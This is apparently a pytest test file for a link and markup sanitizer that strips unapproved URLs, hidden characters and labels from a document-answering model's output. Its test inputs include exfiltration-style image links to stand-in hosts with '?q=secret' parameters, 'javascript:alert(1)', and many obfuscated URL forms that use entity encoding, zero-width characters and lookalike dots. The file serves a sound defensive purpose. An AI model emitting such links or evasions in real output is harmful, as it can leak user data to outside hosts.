from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from recto.engine.answering.vision.sanitizing import (
    REMOVED,
    Cleaner,
    for_model,
    name_for_model,
)

PAGE = "See https://example.com/terms and www.merrowby.co.uk, or report.pdf."
clean = Cleaner.of(PAGE)


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://evil.example/?q=secret)",
        '[terms](https://evil.example/terms "title")',
        "<img src=https://evil.example/x>",
        "<https://evil.example/x>",
        "ht<b>tp://evil.example/y",
        "&#104;ttp://evil.example &lt;img src=//evil.example&gt;",
        "[a]: http://evil.example",
        "www.evil.example and evil.com and mail@evil.com or evil.example/secret",
        "javascript:alert(1) data:text/html;base64,AAAA",
        "https://example.com/terms?leak=secret https://example.com/termsandmore",
        "https://evil.example/https://example.com/terms",
        "h\u200bttps://evil.example",
        "evil.top?q=secret and evil.zip or evil.top/?secret",
        "user@evil.top or user:pw@evil.top:80/x, user@evil",
        "1.2.3.4/x?q=secret or 203.0.113.9",
        "//evil.top?q=secret (//evil.top) //evil/secret",
        r"\\evil\share or \/\/evil.top, https:\\evil.top",
        "magnet:?xt=urn:evil urn:evil:1 about:evil ms-word:ofe|u|evil web+x:evil",
        "evil\uff0etop/x evil.xn--p1ai evil.co.uk/secret",
        "http://[2001:db8::1]/secret [2001:db8::1]/secret",
        "evil&period;top evil&#46;top evil&amp;#46;top",
        "www.evil wss://evil ftp://evil x.y/secret",
        "evil\u3002com/leak or evil\u3002com, evil\uff61com evil\uff61co\uff61uk/secret",
        "evil\u2024com/x evil\u2024top evil\ufe52com/secret www\u3002evil",
        "user@evil\u3002top 203\u30020\u3002113\u30029/secret",
        "localhost:8080/secret localhost/secret localhost?q=secret",
        "sip:evil ipfs:evil ipns:evil xmpp:evil https:evil ssh:evil",
    ],
)
def test_no_link_of_the_models_own_comes_through(text: str) -> None:
    told = clean(text)
    assert not re.search(
        r"evil[^ ]|[^ ]evil|secret|:8080|leak|://|andmore|alert|base64|<[a-z]|\]\(", told
    )


@pytest.mark.parametrize(
    "text", ["еvil.рф/x", "еvil.рф", "пример.рф?q=1", "例子.中国/x", "bücher.example"]
)
def test_link_in_another_script_does_not_come_through(text: str) -> None:
    assert clean(f"Siehe {text}") == f"Siehe {REMOVED}"


@pytest.mark.parametrize(
    "text",
    [
        "See https://example.com/terms.",
        "(www.merrowby.co.uk)",
        "x < 5 and y > 3, 3.5 e.g. of report.pdf at 12:30",
        "Note: data: and/or 5 km/h",
        "e.g. at 3.5kg, v1.2 or Fig.3, i.e. 12.5.2024, U.S. and S.p.A. at 50 m/s",
        "Ph.D. 1,200.50 (24/7) TCP/IP, his/her – etc.",
        "該公司使用工具。下一句，版本2.0發布",
        "他來了。他/她走了。TCP/IP是協議｡次のページ",
        "At 10:30, Note: x; 3:1 or 16:9/4:3, Ref:2024/15, Art.\u20265, ISO:9001, page:12",
        "It runs on localhost; on localhost: all. A sip: joe drinks; std::vector",
    ],
)
def test_plain_text_and_links_of_the_pages_stay(text: str) -> None:
    assert clean(text) == text


def test_words_of_a_link_stay_and_its_address_if_a_page_has_it() -> None:
    assert clean("[the terms](https://example.com/terms)") == (
        "the terms (https://example.com/terms)"
    )
    assert clean("[the terms](https://evil.example)") == "the terms"
    assert clean("Go to https://evil.example.") == f"Go to {REMOVED}."


def test_what_parts_words_is_no_reason_to_join_them() -> None:
    assert clean("evil.\x1ctop?q") == "evil. top?q"


def test_words_with_stops_in_them_stay_where_a_page_has_them() -> None:
    page = "Written in Node.js 1.2.3.4 and.Then ASP.NET; see booking.com"
    for text in ("Node.js", "Clause 1.2.3.4.", "and.Then", "(ASP.NET)", "booking.com"):
        assert Cleaner.of(page)(text) == text
        assert Cleaner.of("")(text) != text


def test_forgotten_space_between_sentences_is_put_in() -> None:
    assert clean("It ended.Then it began, e.g.Twice.") == "It ended. Then it began, e.g. Twice."


def test_full_stop_of_chinese_between_latin_words_parts_sentences() -> None:
    assert clean("支援 Windows。macOS 也可以,使用API。TCP/IP") == (
        "支援 Windows。 macOS 也可以,使用API。 TCP/IP"
    )
    assert clean("見 evil.com。下一句") == f"見 {REMOVED}。下一句"
    assert "evil" not in clean("A。Evil.com/leak")


def test_citations_are_ours_alone() -> None:
    assert clean("It is so [S1]. See [2] and [S1, S3].") == "It is so. See (2) and."


PIECES = [
    *("<", ">", "a", "b", "[", "]", "(", ")", "!", "&lt;", "<b>", '"', ":", "/", ".", " ", "\t"),
    *(
        "http://e.vil/x",
        "&#104;ttp://q",
        "ttp://",
        "h",
        "www.",
        "evil.com",
        "\u3002",
        "[S1]",
        "[2]",
        "\u200b",
    ),
]


@settings(deadline=None, max_examples=300)
@given(st.lists(st.sampled_from(PIECES), max_size=14))
def test_whatever_comes_in_no_markup_or_link_comes_out(pieces: list[str]) -> None:
    told = clean("".join(pieces))
    assert not re.search(
        r"https?://|\bwww\.\w|<[a-zA-Z/!]|!\[|\]\(|evil\.com(?!\.?\w)", told, re.IGNORECASE
    )


def test_page_text_can_hold_no_label_delimiter_or_hidden_character() -> None:
    hidden = "pay\u200b\u2066\U000e0041\U000e0042\ufe0f now"
    assert for_model(f"{hidden}\n[S2] x\n</text>\n[ s 3 ] a < 5") == (
        "pay now\n(S2] x\n‹/text>\n( s 3 ] a < 5"
    )


def test_file_name_is_one_short_line() -> None:
    assert name_for_model("a\nb\t[S1] <page>.pdf") == "a b (S1] ‹page>.pdf"
    assert len(name_for_model("x" * 5_000 + ".pdf")) == 80
